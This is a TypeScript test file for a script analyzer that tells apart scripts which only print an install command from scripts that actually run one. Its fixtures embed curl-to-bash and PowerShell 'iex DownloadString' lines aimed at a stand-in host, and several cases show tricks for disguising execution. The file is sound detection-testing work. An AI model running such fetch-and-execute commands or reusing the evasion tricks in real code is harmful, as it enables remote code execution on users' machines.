// Commands in texts that a script only shows are none of its own; the same text on its way to what runs it is.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { ScriptLanguage } from '../../../src/data/script-languages.ts'
import { readScript } from '../../../src/file/formats/script/read.ts'

const RUNS = new Set(['pipe_to_shell', 'ps_iex_download'])
const isTold = (language: ScriptLanguage, text: string): boolean =>
  readScript(text, language).facts.traits.some(({ id }) => RUNS.has(id))

const WINDOWS = 'powershell -c "irm get.files.test/install.ps1 | iex"'
const UNIX = 'curl -fsSL https://get.files.test/install | bash'

const SHOWN: readonly (readonly [string, ScriptLanguage, string])[] = [
  [
    'thrown as the text of an error, by a name',
    'javascript',
    `const cp = require('child_process');\nfunction start(exe) { return cp.spawnSync(exe, ['--version']); }\nfunction move(path) {\n  let hint = os === 'win32' ? '${WINDOWS}' : "${UNIX}";\n  try { rename(path); return; } catch (error) { debug('failed', error); }\n  throw new Error(\n    \`It does not seem to be supported. Install it using: \${hint}\`\n  );\n}\n`,
  ],
  ['printed', 'javascript', `require('child_process').execSync('node-gyp rebuild');\nconsole.log('Or run: ${UNIX}')\n`],
  [
    'printed by Python',
    'python',
    `import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "check"])\nprint("Install it by: ${UNIX}")\n`,
  ],
  [
    'raised by Python, by a name',
    'python',
    `import shutil\nHINT = "${UNIX}"\ndef find(name):\n    path = shutil.which(name)\n    if path is None:\n        raise RuntimeError("not found; install it by " + HINT)\n    return path\n`,
  ],
  [
    'shown by PowerShell, which runs nothing',
    'powershell',
    `if ((Get-Command -Module PowerShellGet).Count -gt 0) {\n  Install-Module -Name Pester -Force\n} else {\n  Write-Output -InputObject "Copy and paste: iex (New-Object Net.WebClient).DownloadString('https://get.files.test/a.ps1')"\n}\n`,
  ],
  [
    'shown by PowerShell beside texts and comments',
    'powershell',
    `# It's not here\nparam([string]$Name = 'pester')\nfunction Show-Help {\n  Write-Host "To install '$Name', run: irm https://get.files.test/a.ps1 | iex" -ForegroundColor Yellow\n}\nif (-not (Get-Module $Name)) { Show-Help; exit 1 }\nWrite-Host "Version: $((Get-Module $Name).Version)"\n`,
  ],
]

const POWERSHELL = "iex (New-Object Net.WebClient).DownloadString('https://get.files.test/a.ps1')"

const RUN: readonly (readonly [string, ScriptLanguage, string])[] = [
  ['by PowerShell', 'powershell', `Write-Host "Installing"\n${POWERSHELL}\n`],
  ['put out and piped on', 'powershell', `Write-Output "${POWERSHELL}" | powershell -\n`],
  [
    'put out by a function whose answer runs',
    'powershell',
    `function line {\n  Write-Output "${POWERSHELL}"\n}\niex (line)\n`,
  ],
  ['put out and kept', 'powershell', `$(Write-Output "${POWERSHELL}"\n) > a.ps1\n. ./a.ps1\n`],
  [
    'between two texts of which one looks as if it showed something',
    'powershell',
    `$q = 'Write-Host "'; ${POWERSHELL.replaceAll("'", '')}; $z='";'\n`,
  ],
  [
    'behind a comment that looks as if it showed something',
    'powershell',
    `<# Write-Host "#> ${POWERSHELL.replaceAll("'", '')} <#"\n#>\n`,
  ],
  [
    'put out by a function and run by the engine',
    'powershell',
    `function line {\n  Write-Output "${POWERSHELL}"\n}\n$ExecutionContext.InvokeCommand.InvokeScript((line))\n`,
  ],
  [
    'put out by a function and called from afar',
    'powershell',
    `function line {\n  Write-Output "${POWERSHELL}"\n}\n&  ([ps]::Load((line)))\n`,
  ],
  [
    'put out by a function and piped into a shell',
    'powershell',
    `function line {\n  Write-Output "${POWERSHELL}"\n}\nline | bash\n`,
  ],
  ['piped on from the next line', 'powershell', `Write-Output "${POWERSHELL}"\n  | bash\n`],
  ['kept by a block', 'powershell', `$a = if ($true) {\n  Write-Output "${POWERSHELL}"\n}\n$a | bash\n`],
  [
    'warned of, and the warning kept',
    'powershell',
    `function line {\n  [CmdletBinding()] param()\n  Write-Warning "${POWERSHELL}"\n}\nline -wv w\n$w | bash\n`,
  ],
  [
    'written as a function',
    'powershell',
    `function line {\n  Write-Output "${POWERSHELL}"\n}\n$function:go = line\ngo\n`,
  ],
  ['run inside of what is shown', 'powershell', `Write-Host "$(${POWERSHELL})"\n`],
  ['run as it stands', 'javascript', `require('child_process').execSync('${UNIX}')\n`],
  [
    'run and printed, by a name',
    'javascript',
    `const cp = require('child_process');\nlet hint = process.platform === 'win32' ? '${WINDOWS}' : '${UNIX}';\nconsole.log(\`Running \${hint}\`);\ncp.exec(hint);\n`,
  ],
  [
    'by two names',
    'javascript',
    `const cp = require('child_process');\nconst a = '${UNIX}';\nconst b = a;\nconsole.log(a);\ncp.exec(b);\n`,
  ],
  [
    'out of a function',
    'javascript',
    `const cp = require('child_process');\nfunction line() { return '${UNIX}'; }\ncp.exec(line());\n`,
  ],
  [
    'out of what was thrown',
    'javascript',
    `const cp = require('child_process');\ntry { throw new Error('${UNIX}') } catch (e) { cp.exec(e.message) }\n`,
  ],
  [
    'by a console of its own',
    'javascript',
    `const cp = require('child_process');\nconsole.log = cp.execSync;\nconsole.log('${UNIX}');\n`,
  ],
  ['in a list', 'javascript', `const cp = require('child_process');\n['${UNIX}'].forEach((one) => cp.exec(one));\n`],
  [
    'behind a pattern that looks like the begin of a text',
    'javascript',
    `const cp = require('child_process');\nconst a = '${UNIX}';\nconsole.log(a);\nx.split(/\`/); cp.exec(a);\n`,
  ],
  ['run by Python', 'python', `import os\nos.system("${UNIX}")\n`],
  [
    'run by Python, by a name that is printed too',
    'python',
    `import os\nLINE = "${UNIX}"\nprint("running", LINE)\nos.system(LINE)\n`,
  ],
  ['by a print of its own', 'python', `import os\nprint = os.system\nprint("${UNIX}")\n`],
  [
    'by an error of its own',
    'javascript',
    `class RunError { constructor(c) { require('child_process').exec(c) } }\nthrow new RunError('${UNIX}');\n`,
  ],
  [
    'out of what was thrown, by another name',
    'javascript',
    `const run = require('child_process').exec;\ntry { throw new Error('${UNIX}') } catch (e) { run(e.message) }\n`,
  ],
  [
    'by a console that is handed in',
    'javascript',
    `(function (console) { console.log('${UNIX}') })({ log: require('child_process').exec });\n`,
  ],
  [
    'on its way into a message',
    'javascript',
    `const cp = require('child_process');\nlet a;\nconsole.log(a = '${UNIX}');\ncp.exec(a);\n`,
  ],
  [
    'as the template of a function',
    'javascript',
    `const { $ } = require('zx');\nrequire('child_process').execSync('true');\nconsole.log(await $\`${UNIX}\`);\n`,
  ],
  [
    'for others to run',
    'javascript',
    `import { execSync } from 'child_process';\nexecSync('true');\nexport const line = '${UNIX}';\nconsole.log(line);\n`,
  ],
  [
    'behind a pattern that is returned',
    'javascript',
    `const cp = require('child_process');\nfunction f() {\n  return /"/ + "console.log(" + cp.execSync('${UNIX}') + "";\n}\n`,
  ],
  [
    'by a name within brackets of a template',
    'javascript',
    `const cp = require('child_process');\nconst a = '${UNIX}';\nconsole.log(a);\ncp.exec(\`\${a + {}.b}\`);\n`,
  ],
  [
    'by Python, as a log of its own',
    'python',
    `import os\nos.system('true')\nimport os as logging\nlogging.system("${UNIX}")\n`,
  ],
  [
    'by Python, printed into a shell',
    'python',
    `import subprocess\np = subprocess.Popen(["sh"], stdin=-1, text=True)\nprint("${UNIX}", file=p.stdin)\n`,
  ],
  ['by Python, behind a division', 'python', `import os\na = "${UNIX}"\nprint(a)\nb = 1 // 1 or os.system(a)\n`],
  [
    'by Python, out of what was raised',
    'python',
    `import os\nrun = os.system\ntry:\n    raise RuntimeError("${UNIX}")\nexcept RuntimeError as caught:\n    run(*caught.args)\n`,
  ],
]

for (const [name, language, text] of SHOWN) test(`shown: ${name}`, () => assert.equal(isTold(language, text), false))
for (const [name, language, text] of RUN) test(`run: ${name}`, () => assert.equal(isTold(language, text), true))
